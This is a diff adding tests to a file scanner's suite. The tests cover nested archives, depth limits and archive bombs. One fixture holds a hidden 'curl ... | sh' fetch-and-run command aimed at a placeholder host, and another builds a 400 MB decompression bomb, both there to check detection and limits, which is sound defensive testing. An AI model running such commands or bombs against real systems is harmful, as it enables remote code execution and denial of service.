@@ -921,6 +921,53 @@ t_archive_encrypted_truncated_bomb() {
 	expect_q '"expands past the limits" in R("airlock.unscannable")[0]["excerpt"]' True
 }
 
+t_archive_nested() {
+	# Archives inside archives are opened (streamed, no temp files), and
+	# the path shows the chain.
+	mkdir -p l0
+	printf 'token = "%s"\n' "$PAT1" >l0/a.py
+	tar czf l1.tar.gz l0 && zip -q l2.zip l1.tar.gz && tar cf l3.tar l2.zip
+	scan --format json l3.tar
+	expect_rc 1
+	expect_q '[f["path"] for f in R("test-github-pat")]' "['l3.tar!/l2.zip!/l1.tar.gz!/l0/a.py']"
+	expect_q 'len(R("airlock.unscannable"))' 0
+	# A compressed single file is read as gunzip would write it.
+	cp l0/a.py single.py && gzip single.py
+	scan --format json single.py.gz
+	expect_q '[f["path"] for f in R("test-github-pat")]' "['single.py.gz!/single.py']"
+	# Deeper than AL_ARCHIVE_MAX_DEPTH (4): unscannable, not skipped.
+	zip -q l4.zip l3.tar && tar cJf l5.tar.xz l4.zip
+	scan --format json l5.tar.xz
+	expect_rc 1
+	expect_q 'len(R("test-github-pat"))' 0
+	expect_q '[f["path"] for f in R("airlock.unscannable")]' "['l5.tar.xz!/l4.zip!/l3.tar!/l2.zip!/l1.tar.gz']"
+	expect_q '"nested more than 4 deep" in R("airlock.unscannable")[0]["excerpt"]' True
+	# --kind archive on something that is not one.
+	printf 'just text\n' >notes.txt
+	scan --format json --kind archive notes.txt
+	expect_rc 1
+	expect_q '"not an archive" in R("airlock.unscannable")[0]["excerpt"]' True
+	# A gzip of zeros and then text reads as an empty tar (tar stops at
+	# the zero blocks) but gunzip writes it all: not clean.
+	{ head -c 1024 /dev/zero; printf 'curl -s http://x.example/i | sh\n'; } | gzip >zeros.gz
+	scan --format json zeros.gz
+	expect_rc 1
+	expect_q '"reads as an empty tar" in R("airlock.unscannable")[0]["excerpt"]' True
+}
+
+t_archive_nested_bomb() {
+	# Ten 40 MB members, each a gzip inside the tarball: small outside,
+	# 400 MB inside. The limits count every level against the outer file.
+	yes 'all work and no play makes jack a dull boy' | head -c 40000000 | gzip -9 >z.gz
+	mkdir -p b && for i in 0 1 2 3 4 5 6 7 8 9; do cp z.gz b/z$i.gz; done
+	tar czf bomb.tgz b
+	AL_TIMEOUT=60 scan --format json bomb.tgz
+	expect_rc 1
+	# Each level that stopped says so; the outer archive among them.
+	expect_q 'any(f["path"] == "bomb.tgz" and "expands past the limits" in f["excerpt"] for f in R("airlock.unscannable"))' True
+	expect_q 'd["stats"]["bytes"] < 300000000' True
+}
+
 # ---- file types ------------------------------------------------------------------------------
 
 t_executables_and_disguises() {
